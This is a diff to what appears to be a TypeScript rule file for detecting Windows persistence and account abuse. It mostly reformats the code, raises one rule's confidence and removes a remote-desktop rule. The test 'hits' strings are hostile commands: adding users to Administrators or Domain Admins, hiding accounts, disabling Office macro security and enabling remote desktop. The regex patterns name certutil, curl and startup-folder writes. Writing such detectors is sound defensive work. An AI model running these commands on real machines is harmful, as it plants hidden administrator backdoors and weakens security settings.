     misses: ['dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"'],
-    look: onText(['programs\\startup', 'programs\\\\startup', 'shell:startup', 'word\\startup', 'excel\\xlstart', 'specialfolders("startup', "getfolderpath('startup"], ({ lower }) => /copy|move|echo|outfile|out-file|-outfile|>|set-content|createshortcut|new-item|cp |certutil|download|reg add|mklink|curl|add-content/.test(lower)),
+    look: onText(
+      [
+        'programs\\startup',
+        'programs\\\\startup',
+        'shell:startup',
+        'word\\startup',
+        'excel\\xlstart',
+        'specialfolders("startup',
+        "getfolderpath('startup",
+      ],
+      ({ lower }) =>
+        /copy|move|echo|outfile|out-file|-outfile|>|set-content|createshortcut|new-item|cp |certutil|download|reg add|mklink|curl|add-content/.test(
+          lower,
+        ),
+    ),
   }),
   behaviour('office-hook', ['persistence-key', 'T1137', 'persistence', 'high', 'medium'], {
     reason: 'The protection of Office against macros is switched off, or a macro of Outlook is put in place.',
     benign: ['roll-out of in-house macros'],
-    hits: ['reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security /v Level /t REG_DWORD /d 1 /f', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security /v AccessVBOM /d 1'],
+    hits: [
+      'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security /v Level /t REG_DWORD /d 1 /f',
+      'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security /v AccessVBOM /d 1',
+    ],
     misses: ['reg query HKCU\\Software\\Microsoft\\Office'],
-    look: onText(['vbawarnings', 'accessvbom', 'outlook\\security', 'vbaproject.otm', 'blockcontentexecutionfrominternet', 'office\\16.0\\word\\security', 'disableinternetfilesinpv', 'trusted locations', 'addins\\', 'enableunsafeclientmailrules'], ({ lower }) => /reg(?:\.exe)? add|set-item|new-item|>|copy/.test(lower)),
+    look: onText(
+      [
+        'vbawarnings',
+        'accessvbom',
+        'outlook\\security',
+        'vbaproject.otm',
+        'blockcontentexecutionfrominternet',
+        'office\\16.0\\word\\security',
+        'disableinternetfilesinpv',
+        'trusted locations',
+        'addins\\',
+        'enableunsafeclientmailrules',
+      ],
+      ({ lower }) => /reg(?:\.exe)? add|set-item|new-item|>|copy/.test(lower),
+    ),
   }),
   behaviour('account-made', ['account', 'T1136.001', 'persistence', 'medium', 'medium'], {
     reason: 'A user account is made from the command line.',
     benign: ['set-up of machines'],
     hits: ['net user a Passw0rd! /add', 'powershell "New-LocalUser -Name a -NoPassword"'],
     misses: ['net user', 'net user a /domain'],
-    look: onProcess(['net', 'net1', 'new-localuser', 'new-aduser'], (process, scene) => (process.name.startsWith('new-') ? process : process.args[0]?.lower === 'user' ? isUserAdd(process, scene) : undefined)),
+    look: onProcess(['net', 'net1', 'new-localuser', 'new-aduser'], (process, scene) =>
+      process.name.startsWith('new-')
+        ? process
+        : process.args[0]?.lower === 'user'
+          ? isUserAdd(process, scene)
+          : undefined,
+    ),
   }),
-  behaviour('admin-made', ['account', 'T1098', 'privilege-escalation', 'high', 'medium'], {
+  behaviour('admin-made', ['account', 'T1098', 'privilege-escalation', 'medium', 'high'], {
     reason: 'An account is put into a group with power over the machine or the domain.',
     benign: ['set-up of machines'],
-    hits: ['net localgroup administrators a /add', 'net group "Domain Admins" a /add /domain', 'powershell "Add-LocalGroupMember -Group Administrators -Member a"'],
+    hits: [
+      'net localgroup administrators a /add',
+      'net group "Domain Admins" a /add /domain',
+      'powershell "Add-LocalGroupMember -Group Administrators -Member a"',
+    ],
     misses: ['net localgroup administrators', 'net localgroup users a /add'],
     look: onProcess(['net', 'net1', 'add-localgroupmember', 'add-adgroupmember'], (process) => {
       const isAdd = process.name.startsWith('add-') || process.args.some(({ lower }) => lower === '/add');
-      return isAdd ? process.args.find(({ lower }) => /admin|remote desktop|remotedesktop|backup operators|remote management/.test(lower)) : undefined;
+      return isAdd
+        ? process.args.find(({ lower }) =>
+            /admin|remote desktop|remotedesktop|backup operators|remote management/.test(lower),
+          )
+        : undefined;
     }),
   }),
   behaviour('account-hidden', ['account', 'T1564.002', 'defense-evasion', 'critical', 'high'], {
     reason: 'An account is hidden from the logon screen, or ends in a sign that hides it.',
     benign: [],
-    hits: ['reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v a /d 0', 'net user support$ Qwer!234 /add'],
+    hits: [
+      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v a /d 0',
+      'net user support$ Qwer!234 /add',
+    ],
     misses: ['net user support Qwer!234 /add'],
-    look: onText(['specialaccounts', '$ '], ({ lower }, at, literal) => literal === 'specialaccounts' || (/net1?(?:\.exe)? user [\w-]{1,20}\$ /.test(lower.slice(Math.max(0, at - 40), at + 2)) && lower.includes('/add'))),
-  }),
-  behaviour('remote-desktop-opened', ['remote-access', 'T1021.001', 'lateral-movement', 'high', 'medium'], {
-    reason: 'Remote desktop is switched on or its protection off from the command line.',
-    benign: ['set-up of servers'],
-    hits: ['reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v PortNumber /d 4489'],
-    misses: ['reg query "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections'],
-    look: values('fdenytsconnections', 'rdp-tcp', 'disablerestrictedadmin', 'shadow', 'fsinglesessionperuser', 'allowtsconnections', 'terminal server'),
+    look: onText(
+      ['specialaccounts', '$ '],
+      ({ lower }, at, literal) =>
+        literal === 'specialaccounts' ||
+        (/net1?(?:\.exe)? user [\w-]{1,20}\$ /.test(lower.slice(Math.max(0, at - 40), at + 2)) &&
+          lower.includes('/add')),
+    ),
   }),
   behaviour('session-taken', ['remote-access', 'T1563.002', 'lateral-movement', 'high', 'high'], {
     reason: 'The session of another user is taken over or watched.',
@@ -233,4 +537,3 @@ export const WINDOWS_PERSISTENCE: readonly Row[] = [
     look: onProcess(['tscon', 'mstsc'], any(arg(/^\/dest:/), arg(/^\/(?:shadow|noconsentprompt)/))),
   }),
 ];
-
